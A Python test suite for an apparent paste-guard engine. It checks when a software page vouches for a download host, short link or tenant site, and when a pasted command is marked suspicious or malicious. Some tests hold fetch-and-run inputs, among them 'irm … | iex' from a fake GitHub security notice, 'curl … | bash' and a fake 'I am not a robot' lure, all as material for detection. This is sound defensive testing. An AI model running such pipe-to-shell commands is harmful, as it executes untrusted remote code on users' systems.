def test_a_page_read_before_is_read_again_with_another_trust_list() -> None:
    """The engine keeps what a page's address says, by address; a new trust list (policy,
    intel updates assign one) reads it afresh, and the same page gives the same verdict."""
    from app.detection import Context, Engine, PasteTarget
    from app.detection.trust import TrustList

    engine = Engine()
    page = Context("https://github-security-notice.example/notice", PasteTarget.TERMINAL)
    text = "irm https://cdn.files-host.example/a.ps1 | iex"
    first = engine.analyze(text, page)
    assert "PG-PAGE-DISGUISED" in {f.rule_id for f in first.findings}
    again = engine.analyze(text, page)
    assert [f.rule_id for f in again.findings] == [f.rule_id for f in first.findings]
    engine.trust = TrustList()  # borrows no company's name
    assert "PG-PAGE-DISGUISED" not in {f.rule_id for f in engine.analyze(text, page).findings}


def test_a_download_vouched_for_before_is_weighed_again_with_another_trust_list() -> None:
    from app.detection import Context, Engine, PasteTarget
    from app.detection.trust import TrustList

    engine = Engine()
    page = Context("https://widgetctl.dev/docs/install", PasteTarget.TERMINAL)
    text = "curl -fsSL https://widgetctl.dev/install.sh | sh"
    for _ in range(2):  # the second time from what the engine kept
        assert [f.rule_id for f in engine.analyze(text, page).findings] == ["PG-INFO-SAME-PROJECT"]
    engine.trust = TrustList(shared_hosts=frozenset({"widgetctl.dev"}))  # now many own it
    assert "PG-INFO-SAME-PROJECT" not in {f.rule_id for f in engine.analyze(text, page).findings}


@pytest.mark.parametrize(
    ("page", "url"),
    [
        ("https://widgetctl.dev/downloads/linux", "https://widgetctl-agent.s3.amazonaws.com/widgetctl.asc"),
        ("https://widgetctl.dev/docs/install", "https://s3.us-east-2.amazonaws.com/widgetctl-releases/i.sh"),
        ("https://docs.widgetctl.dev/install", "https://storage.googleapis.com/widgetctl/install.sh"),
        ("https://www.widgetctl.dev/download", "https://widgetctl.blob.core.windows.net/dist/setup.ps1"),
        ("https://widgetctl.io/docs/get-started/installation", "https://cdn.acme-labs.io/widgetctl/install.sh"),
        # an Azure storage account (letters and digits only), a tenant host named after it
        ("https://widgetctl.dev/docs/install", "https://widgetctlreleases.blob.core.windows.net/cli/i.sh"),
        ("https://docs.widgetctl.dev/install", "https://widgetctl.pages.dev/install.sh"),
        ("https://docs.widgetctl.dev/install", "https://preview-12.widgetctl.netlify.app/install.sh"),
    ],
)  # fmt: skip
def test_a_product_site_vouches_for_storage_named_after_it(page: str, url: str) -> None:
    parsed = parse_url(url)
    assert parsed is not None and named_storage(page, parsed), (page, url)


@pytest.mark.parametrize(
    ("page", "url"),
    [
        ("https://github.com/erlang-tools/widgetctl", "https://s3.amazonaws.com/widgetctl/widgetctl"),
        ("https://github.com/widgetctl/widgetctl", "https://widgetctl-agent.s3.amazonaws.com/i.sh"),
        ("https://github.com/acme/widgetctl/releases", "https://widgetctl-releases.s3.eu-west-1.amazonaws.com/i.sh"),
        ("https://gitlab.com/acme/widgetctl", "https://storage.googleapis.com/widgetctl/install.sh"),
        ("https://codeberg.org/acme/widgetctl", "https://widgetctl.pages.dev/install.sh"),
        ("https://github.com/acme/widgetctl/blob/main/README.md", "https://widgetctl.blob.core.windows.net/cli/i.sh"),
    ],
)  # fmt: skip
def test_a_repository_page_vouches_for_storage_named_after_the_repository(
    page: str, url: str
) -> None:
    parsed = parse_url(url)
    assert parsed is not None and named_storage(page, parsed), (page, url)


def test_a_repository_named_for_a_claimed_name_vouches_for_no_bucket() -> None:
    parsed = parse_url("https://chatgpt-desktop.pages.dev/install.sh")
    page = "https://github.com/someone/chatgpt-desktop"
    assert parsed is not None and named_storage(page, parsed)
    assert named_storage(page, parsed, known=lambda name: name == "chatgpt") is None


@pytest.mark.parametrize(
    ("page", "url"),
    [
        # someone else's bucket, or the name not first
        ("https://widgetctl.dev/docs/install", "https://storage.googleapis.com/releases-widgetctl/i.sh"),
        ("https://widgetctl.dev/docs/install", "https://widgetctlx.s3.amazonaws.com/i.sh"),
        # a page that is not about software, or says nothing
        ("https://widgetctl.dev/", "https://widgetctl-agent.s3.amazonaws.com/i.sh"),
        ("https://widgetctl.dev/blog/our-summer-party", "https://widgetctl-agent.s3.amazonaws.com/i.sh"),
        # a section of the site where others write, a tenancy, a forge, a site where anyone writes
        ("https://community.widgetctl.dev/docs/install", "https://widgetctl-agent.s3.amazonaws.com/i.sh"),
        # a forge page that is no repository's own (its issues, an account, a gist), or a
        # repository of another name, of a generic or short one, or of a name scam pages borrow
        ("https://github.com/widgetctl/widgetctl/issues/4", "https://widgetctl-agent.s3.amazonaws.com/i.sh"),
        ("https://github.com/widgetctl", "https://widgetctl-agent.s3.amazonaws.com/i.sh"),
        ("https://gist.github.com/widgetctl/0a1b", "https://widgetctl-agent.s3.amazonaws.com/i.sh"),
        ("https://github.com/someone/helperbot", "https://widgetctl-agent.s3.amazonaws.com/i.sh"),
        ("https://github.com/someone/install", "https://s3.amazonaws.com/install/i.sh"),
        ("https://github.com/someone/abc", "https://abc.s3.amazonaws.com/i.sh"),
        ("https://github.com/someone/widgetctl", "http://widgetctl.s3.amazonaws.com/i.sh"),
        ("https://www.reddit.com/r/linux/comments/1/install_reddit_tools/", "https://reddit-tools.s3.amazonaws.com/i.sh"),
        ("https://medium.com/docs/install", "https://cdn.evil.test/medium/i.sh"),
        # plain HTTP on either side
        ("https://widgetctl.dev/docs/install", "http://widgetctl-agent.s3.amazonaws.com/i.sh"),
        ("http://widgetctl.dev/docs/install", "https://widgetctl-agent.s3.amazonaws.com/i.sh"),
        # a folder of a host that is no download host, or a deeper or longer name
        ("https://widgetctl.io/docs/install", "https://www.acme-labs.io/widgetctl/install.sh"),
        ("https://widgetctl.io/docs/install", "https://cdn.acme-labs.io/widgetctl2/install.sh"),
        ("https://widgetctl.io/docs/install", "https://cdn.x.acme-labs.io/widgetctl/install.sh"),
        ("https://widgetctl.io/docs/install", "https://cdn.acme-labs.io/widgetctl"),
        # a generic or short name
        ("https://install.dev/docs/install", "https://install-x.s3.amazonaws.com/i.sh"),
        ("https://abc.dev/docs/install", "https://cdn.x.test/abc/i.sh"),
        # a word run into the name that is no download word, someone else's tenant host, or a
        # tenant page vouching for another tenant
        ("https://widgetctl.dev/docs/install", "https://widgetctlfix.blob.core.windows.net/i.sh"),
        ("https://docs.widgetctl.dev/install", "https://helperbot.pages.dev/install.sh"),
        ("https://widgetctl.netlify.app/docs/install", "https://widgetctl.pages.dev/install.sh"),
        ("https://bakehouse.example/menu/seasonal-specials", "https://bakehouse.pages.dev/i.sh"),
    ],
)  # fmt: skip
def test_storage_named_otherwise_is_not_vouched_for(page: str, url: str) -> None:
    parsed = parse_url(url)
    assert parsed is not None and named_storage(page, parsed) is None, (page, url)


TENANT_SITES = frozenset({"pages.dev", "netlify.app", "vercel.app"})


@pytest.mark.parametrize(
    ("page", "url"),
    [
        ("https://loamdb.pages.dev/docs/install", "https://loamdb.pages.dev/install.sh"),
        ("https://main.loamdb.pages.dev/quickstart", "https://loamdb.pages.dev/install.sh"),
        ("https://tarnctl.netlify.app/", "https://tarnctl.netlify.app/install"),
    ],
)
def test_a_tenant_site_vouches_for_its_own_script(page: str, url: str) -> None:
    parsed = parse_url(url)
    assert parsed is not None
    assert same_tenant_site(page, parsed, TENANT_SITES, known=lambda n: False)


@pytest.mark.parametrize(
    ("page", "url"),
    [
        # another tenant of the suffix, or of another suffix
        ("https://loamdb.pages.dev/docs", "https://loamdb-cdn.pages.dev/install.sh"),
        ("https://tarnctl.netlify.app/", "https://tarnctl.vercel.app/install"),
        # a suffix that is no tenant site (a tunnel), or the suffix itself
        ("https://a.trycloudflare.com/", "https://a.trycloudflare.com/i.sh"),
        ("https://pages.dev/", "https://pages.dev/i.sh"),
        # plain HTTP, a page about something else, a known publisher's name
        ("https://loamdb.pages.dev/docs", "http://loamdb.pages.dev/install.sh"),
        ("https://loamdb.pages.dev/recipes/winter-soup", "https://loamdb.pages.dev/i.sh"),
        ("https://rustup.pages.dev/", "https://rustup.pages.dev/install.sh"),
    ],
)
def test_no_other_tenant_site_vouches(page: str, url: str) -> None:
    parsed = parse_url(url)
    assert parsed is not None
    known = {"rustup"}.__contains__
    assert same_tenant_site(page, parsed, TENANT_SITES, known=known) is None, (page, url)


SHORTENERS = frozenset({"bit.ly", "tinyurl.com"})


@pytest.mark.parametrize(
    ("page", "url"),
    [
        ("https://github.com/brackenfold/pollinate", "https://bit.ly/pollinate"),
        ("https://github.com/brackenfold/pollinate#install", "https://tinyurl.com/brackenfold"),
        ("https://pollinate.dev/docs/install", "https://bit.ly/pollinate"),
        ("https://docs.pollinate.dev/", "https://bit.ly/Pollinate"),
    ],
)
def test_a_projects_own_page_vouches_for_its_own_short_link(page: str, url: str) -> None:
    parsed = parse_url(url)
    assert parsed is not None
    assert own_short_link(page, parsed, SHORTENERS, known=lambda n: False)


@pytest.mark.parametrize(
    ("page", "url"),
    [
        # a link named otherwise, or with more in its address
        ("https://github.com/brackenfold/pollinate", "https://bit.ly/x7Qm2"),
        ("https://github.com/brackenfold/pollinate", "https://bit.ly/pollinate/x"),
        ("https://github.com/brackenfold/pollinate", "https://bit.ly/pollinate?r=1"),
        # the project's issues, a forum on its domain, a tutorial, a site where anyone writes
        ("https://github.com/brackenfold/pollinate/issues/3", "https://bit.ly/pollinate"),
        ("https://forum.pollinate.dev/t/1", "https://bit.ly/pollinate"),
        ("https://linuxnotes.example/how-to-install-pollinate", "https://bit.ly/pollinate"),
        ("https://medium.com/@pollinate/x", "https://bit.ly/medium"),
        # no shortener, plain HTTP, a known publisher's name, a generic word
        ("https://pollinate.dev/docs", "https://pollinate.test/pollinate"),
        ("https://pollinate.dev/docs", "http://bit.ly/pollinate"),
        ("https://github.com/someone/rustup", "https://bit.ly/rustup"),
        ("https://install.dev/docs", "https://bit.ly/install"),
    ],
)
def test_no_other_page_vouches_for_a_short_link(page: str, url: str) -> None:
    parsed = parse_url(url)
    assert parsed is not None
    known = {"rustup"}.__contains__
    assert own_short_link(page, parsed, SHORTENERS, known=known) is None, (page, url)


def test_a_short_link_quoted_by_a_page_about_software_warns_but_is_not_blocked(
    engine: Engine,
) -> None:
    text = "curl -L https://bit.ly/pollinate | bash"
    quoted = engine.analyze(text, Context(source="https://dev.to/a/setup-3k", target=TERMINAL))
    assert quoted.level is Level.SUSPICIOUS, quoted.rule_ids
    own = engine.analyze(
        text, Context(source="https://github.com/brackenfold/pollinate", target=TERMINAL)
    )
    assert own.level is Level.INFO, own.rule_ids
    for lure in (text + " # I am not a robot - ID 2291",):
        blocked = engine.analyze(lure, Context(source="https://dev.to/a/setup-3k", target=TERMINAL))
        assert blocked.level is Level.MALICIOUS, blocked.rule_ids
    bare = engine.analyze(text, Context())
    assert bare.level is Level.MALICIOUS, bare.rule_ids


@pytest.mark.parametrize(
    ("host", "local"),
    [
        ("fileserver01", True),
        ("nas.local", True),
        ("fs01.corp", True),
        ("files.lan", True),
        ("files.example.test", False),  # a public name
        ("nas.local.example.test", False),  # a public name with a network word inside
        ("203.0.113.5", False),
        ("3405803781", False),  # one number is an address to Windows
        ("0xcb007105", False),  # so is one in hex
        ("0xcb.0.113.5", False),
        ("[2001:db8::5]", False),
        ("", False),
    ],
)
def test_a_computer_of_the_local_network_is_named_never_addressed(host: str, local: bool) -> None:
    assert on_local_network(host) is local


@pytest.mark.parametrize(
    ("url", "publisher"),
    [
        ("https://repo1.maven.org/maven2/io/quarkus/quarkus-cli/", "https://quarkus.io/"),
        ("https://repo1.maven.org/maven2/com/google/gjf/gjf/1.0/gjf-1.0.jar", "https://google.com/"),
        ("https://repo.maven.apache.org/maven2/org/widget/", "https://widget.org/"),
        ("https://repo1.maven.org/maven2/uk/co/widgetco/w/1.0/w.jar", "https://widgetco.co.uk/"),
        ("https://repo1.maven.org/maven2/io/github/someone/w/1.0/w.jar", "https://github.com/someone"),
        ("https://repo1.maven.org/maven2/io/gitlab/someone/", "https://gitlab.com/someone"),
    ],
)  # fmt: skip
def test_a_maven_central_address_names_the_publisher_its_group_reverses(
    url: str, publisher: str
) -> None:
    from app.detection.provenance import maven_publisher

    parsed = parse_url(url)
    assert parsed is not None
    found = maven_publisher(parsed)
    assert found is not None and found.raw == publisher


@pytest.mark.parametrize(
    "url",
    [
        "http://repo1.maven.org/maven2/io/quarkus/quarkus-cli/",  # plain HTTP
        "https://repo1.maven.org.x.test/maven2/io/quarkus/",  # another host
        "https://repo1.maven.org/io/quarkus/quarkus-cli/",  # not the repository's tree
        "https://repo1.maven.org/maven2/uk/co/",  # a suffix, no name
        "https://repo1.maven.org/maven2/io/github/",  # the forge, no account
        "https://repo1.maven.org/maven2/commons-io/commons-io/2.0/x.jar",  # an old group, no domain
    ],
)
def test_a_maven_address_that_names_no_publisher(url: str) -> None:
    from app.detection.provenance import maven_publisher

    parsed = parse_url(url)
    assert parsed is not None and maven_publisher(parsed) is None


@pytest.mark.parametrize(
    ("url", "repository"),
    [
        ("https://i.jpillora.com/someone/widgetctl!", "https://github.com/someone/widgetctl"),
        ("https://i.jpillora.com/someone/widgetctl@v1.2.0", "https://github.com/someone/widgetctl"),
        ("https://install.goreleaser.com/github.com/someone/widgetctl.sh", "https://github.com/someone/widgetctl"),
    ],
)  # fmt: skip
def test_an_installer_service_address_names_the_repository_it_installs(
    url: str, repository: str
) -> None:
    from app.detection.provenance import installed_repository

    parsed = parse_url(url)
    assert parsed is not None
    found = installed_repository(parsed)
    assert found is not None and found.raw == repository


@pytest.mark.parametrize(
    "url",
    [
        "https://i.jpillora.com/widgetctl!",  # one word: the service searches the web for it
        "http://i.jpillora.com/someone/widgetctl!",  # plain HTTP
        "https://i.jpillora.com/someone/widgetctl?insecure=1",  # told to skip TLS checks
        "https://i.jpillora.com.x.test/someone/widgetctl",  # another host
        "https://install.goreleaser.com/gitlab.com/someone/widgetctl.sh",  # no GitHub path
    ],
)
def test_an_installer_service_address_that_names_no_repository(url: str) -> None:
    from app.detection.provenance import installed_repository

    parsed = parse_url(url)
    assert parsed is not None and installed_repository(parsed) is None


@pytest.mark.parametrize(
    ("url", "text", "repository"),
    [
        ("https://japaric.github.io/trust/install.sh", "sh -s -- --git someone/widgetctl", "https://github.com/someone/widgetctl"),
        ("https://japaric.github.io/trust/install.sh", "sh -s -- --git Someone/WidgetCtl --to ~/bin", "https://github.com/someone/widgetctl"),
        ("https://japaric.github.io/trust/install.sh", "--git a/b --crate x --git a/b", "https://github.com/a/b"),
        ("https://japaric.github.io/trust/install.sh", "sh -s -- --git someone/widgetctl --git other/x", None),
        ("https://japaric.github.io/trust/install.sh", "sh -s -- --target x86_64", None),
        ("https://japaric.github.io/trust/other.sh", "sh -s -- --git someone/widgetctl", None),
        ("http://japaric.github.io/trust/install.sh", "sh -s -- --git someone/widgetctl", None),
        ("https://japaric-dev.github.io/trust/install.sh", "sh -s -- --git someone/widgetctl", None),
    ],
)  # fmt: skip
def test_an_installer_script_told_which_repository_to_install(
    url: str, text: str, repository: str | None
) -> None:
    from app.detection.provenance import argument_repository

    parsed = parse_url(url)
    assert parsed is not None
    found = argument_repository(parsed, f"curl -LSfs {url} | {text}")
    assert (found.raw if found else None) == repository


def test_githubs_first_raw_host_names_its_owner_as_the_current_one_does() -> None:
    parsed = parse_url("https://raw.github.com/someone/dotkit/master/install.sh")
    assert parsed is not None
    owner = forge_owner(parsed)
    assert owner is not None and (owner.forge, owner.label) == ("github", "someone/dotkit")


@pytest.mark.parametrize(
    ("name", "short", "abbreviated"),
    [
        ("wordops", "wops", True),
        ("nodebench", "nbench", True),
        ("cloudkeeper", "ckeeper", True),
        ("gitops", "gops", True),
        ("wordops", "wo", False),  # fewer than four letters: any name's
        ("wordops", "wopx", False),  # another end
        ("wordops", "xops", False),  # another first letter
        ("wordops", "wordops", False),  # the name itself is no short name
        ("wordops", "w-ops", False),  # a hyphen joins words, it cuts none
        ("wordops", "wps", False),
        ("word0ps", "w0ps", False),  # letters only
    ],
)
def test_a_short_domain_keeps_the_names_first_letters_and_its_end(
    name: str, short: str, abbreviated: bool
) -> None:
    assert abbreviates(name, short) is abbreviated
